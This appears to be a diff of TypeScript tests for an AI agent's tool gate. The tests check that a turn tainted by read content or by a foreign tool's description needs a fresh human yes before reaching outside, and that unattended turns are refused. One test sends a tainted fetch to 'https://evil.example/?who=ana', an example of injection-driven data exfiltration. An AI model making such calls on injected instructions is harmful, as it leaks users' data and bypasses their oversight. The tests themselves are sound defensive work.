@@ -114,6 +114,16 @@ describe("gate", () => {
   });
   afterEach(() => db.close());
 
+  it("finds a tool by its alias, and one of that very name before it", async () => {
+    const named = (name: string) =>
+      defineTool({ name, description: name, group: "x", args: z.strictObject({}), effect: "read", execute: async () => ({ content: name }) });
+    const policy = () => parsePolicy([]);
+    const own = createGate({ db, tools: [named("email_send"), named("send_sms"), named("sms_send")], policy, clock });
+    const outcomes = await Promise.all(["send_email", "send_sms"].map((name) => own.call({ toolCallId: name, name, args: {}, tainted: false }, turn, signal)));
+    expect(outcomes).toMatchObject([{ output: { content: "email_send" } }, { output: { content: "send_sms" } }]);
+    expect(own.isRead("send_email")).toBe(true);
+  });
+
   it("refuses arguments that the schema does not know, with the path", async () => {
     const outcome = await call("sell", { item: "lamp", discount: 1 });
     expect(outcome).toMatchObject({ status: "refused", error: { code: "INVALID_REQUEST" } });
@@ -528,6 +538,76 @@ describe("gate", () => {
       }
       expect(sent).toBe(2);
       expect(await db.all("select state from intent")).toEqual([{ state: "unknown" }, { state: "unknown" }]);
+    });
+  });
+
+  describe("a turn that has read others' words", () => {
+    const reach = (more: Partial<Tool> = {}): Tool =>
+      ({
+        ...defineTool({
+          name: "fetch",
+          description: "fetches",
+          group: "web",
+          args: z.strictObject({ url: z.string() }),
+          effect: "read",
+          egress: true,
+          describe: async ({ url }, { now }) => ({ title: "Open a page", lines: [url], expiresAt: now + 60_000, subject: { url }, facts: {} }),
+          execute: async ({ url }) => {
+            fetched.push(url);
+            return { content: "page" };
+          },
+        }),
+        ...more,
+      }) as Tool;
+    const fetched: string[] = [];
+    const open = async (tools: readonly Tool[]): Promise<Gate> => {
+      fetched.length = 0;
+      const opened = createGate({ db, tools, policy: () => parsePolicy([{ name: "test.json5", text: rules }]), clock });
+      await opened.migrate();
+      return opened;
+    };
+    const ask = (to: Gate, name: string, args: unknown, more: object = {}, scope: TurnScope = turn) =>
+      to.call({ toolCallId: `call-${Math.random()}`, name, args, tainted: false, ...more }, scope, signal);
+
+    it("reaches outside only with a fresh yes, for exactly that address", async () => {
+      const own = await open([reach()]);
+      expect((await ask(own, "fetch", { url: "https://a.example" })).status).toBe("done");
+      const asked = await ask(own, "fetch", { url: "https://evil.example/?who=ana" }, { tainted: true, sources: ["tool look"] });
+      expect(asked.status).toBe("asked");
+      expect(fetched).toEqual(["https://a.example"]);
+      const { entries } = await own.audit.list({ tool: "fetch", decision: "asked" });
+      expect(entries[0]).toMatchObject({ ruleId: "gate.provenance", evidence: { taintedBy: ["tool look"] } });
+      if (asked.status !== "asked") throw new Error("not asked");
+      await db.transaction((tx) => own.decisions.markShown(tx, [asked.decisionId]));
+      await own.decisions.answer({ id: asked.decisionId, sessionKey: turn.sessionKey, text: "yes", receivedAt: clock.now() });
+      expect((await ask(own, "fetch", { url: "https://other.example" }, { tainted: true })).status).toBe("asked");
+      expect((await ask(own, "fetch", { url: "https://evil.example/?who=ana" }, { tainted: true })).status).toBe("done");
+      expect(fetched).toEqual(["https://a.example", "https://evil.example/?who=ana"]);
+    });
+
+    it("is one that is shown a tool somebody else described", async () => {
+      const foreign = reach({ name: "mcp_x_look", egress: undefined as never, foreign: true });
+      const own = await open([...store.tools, foreign]);
+      const asked = await ask(own, "note", { text: "x" });
+      expect(asked.status).toBe("asked");
+      const { entries } = await own.audit.list({ tool: "note" });
+      expect(entries[0]?.evidence).toMatchObject({ taintedBy: ["description of mcp_x_look"] });
+      expect((await ask(own, "note", { text: "x" }, { actor: "operator" })).status).toBe("done");
+      const hidden = createGate({
+        db,
+        tools: [...store.tools, foreign],
+        policy: () => parsePolicy([{ name: "test.json5", text: rules }]),
+        clock,
+        exposure: { deny: ["mcp_x_look"] },
+      });
+      expect((await ask(hidden, "note", { text: "y" })).status).toBe("done");
+    });
+
+    it("gets a refusal where nobody can be asked", async () => {
+      const own = await open(store.tools);
+      const outcome = await ask(own, "sell", { item: "ring" }, {}, { ...turn, unattended: true });
+      expect(outcome).toMatchObject({ status: "refused", error: { code: "CONFIRMATION_REQUIRED" } });
+      expect(await own.decisions.list({ kind: "confirmation", status: "pending" })).toMatchObject({ decisions: [] });
     });
   });
 });
